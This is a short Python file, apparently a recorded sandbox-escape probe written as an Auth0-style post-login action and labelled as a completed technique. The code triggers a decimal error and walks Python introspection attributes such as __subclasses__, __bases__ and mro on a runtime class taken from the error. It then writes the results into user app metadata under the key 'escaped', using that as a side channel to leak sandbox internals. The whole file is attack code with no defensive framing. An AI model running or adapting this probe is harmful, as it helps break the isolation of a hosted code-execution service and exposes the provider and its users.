# origin: own
# technique: the argument of a decimal error is a list of classes of the runtime
# goal: language
# outcome: COMPLETED

import decimal
def on_execute_post_login(event, api):
    try:
        decimal.Decimal("x")
    except decimal.InvalidOperation as error:
        for name in ("mro", "handle", "__subclasses__", "__bases__", "__module__"):
            try:
                api.user.set_app_metadata("escaped", str(getattr(error.args[0][0], name)))
            except AttributeError:
                pass
